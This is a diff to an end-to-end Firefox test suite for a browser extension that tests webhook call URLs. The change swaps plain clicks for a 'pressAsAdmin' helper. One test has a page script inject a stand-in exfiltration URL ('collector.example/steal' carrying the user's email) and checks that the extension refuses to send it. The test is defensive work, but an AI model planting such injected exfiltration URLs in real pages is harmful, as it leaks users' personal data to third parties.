@@ -17,6 +17,7 @@ import {
   openPopupFirefox,
   useE2eSuite,
 } from './harness';
+import { pressAsAdmin } from './harness/admin-press';
 import { schoolUrl } from './harness/sandbox';
 
 const { sandbox, browser, page } = useE2eSuite(() => launchFirefox({ lang: 'ru' }));
@@ -25,13 +26,13 @@ const panel = () => page.locator(`${MODAL} [data-gc-albato="call-url-test"] .gc-
 describe('Firefox: test this URL', () => {
   it('Send… opens the call in the extension’s tab; its Send asks for h.albato.ru and the call reaches Albato’s (sandbox) receiver', async () => {
     await openCallUrlBlock(page, schoolUrl(sandbox, '/pl/tasks/mission/process?id=101'), 2, 15_000);
-    await panel().locator('.gc-test-open').click({ timeout: 15_000 });
+    await pressAsAdmin(panel().locator('.gc-test-open'));
     await page
       .locator(CALL_URL_FIELD)
       .fill(`https://h.albato.ru:${sandbox.httpsPort}/wh/38/1lfAbCd/token/?email={object.email}&city={object.city}`);
     const [confirmation] = await Promise.all([
       browser.context.waitForEvent('page', { timeout: 10_000 }),
-      panel().locator('.gc-test-send').click(),
+      pressAsAdmin(panel().locator('.gc-test-send')),
     ]);
     await confirmation.waitForTimeout(1_500);
     expect(confirmation.url()).toMatch(new RegExp(`^${browser.extensionOrigin}/popup\\.html\\?call=.+#webhook$`));
@@ -65,7 +66,7 @@ describe('Firefox: test this URL', () => {
   it('a page script typing with execCommand (a trusted input event) is not the admin typing: their Send… is refused, nothing opens', async () => {
     sandbox.reset();
     await openCallUrlBlock(page, schoolUrl(sandbox, '/pl/tasks/mission/process?id=101'), 2, 15_000);
-    await panel().locator('.gc-test-open').click({ timeout: 15_000 });
+    await pressAsAdmin(panel().locator('.gc-test-open'));
     await page.evaluate((field) => {
       const input = document.querySelector(field) as HTMLInputElement;
       input.focus();
@@ -73,7 +74,7 @@ describe('Firefox: test this URL', () => {
       document.execCommand('insertText', false, 'https://collector.example/steal?e={object.email}');
     }, CALL_URL_FIELD);
     expect(await panel().locator('.gc-request').textContent()).toContain('https://collector.example/steal');
-    await panel().locator('.gc-test-send').click();
+    await pressAsAdmin(panel().locator('.gc-test-send'));
     const refused = panel().locator('.gc-finding[data-code="untyped-target"]');
     expect(await refused.textContent({ timeout: 10_000 })).toContain('адрес https://collector.example вы не набирали');
     expect(sandbox.webhookCalls()).toHaveLength(0);
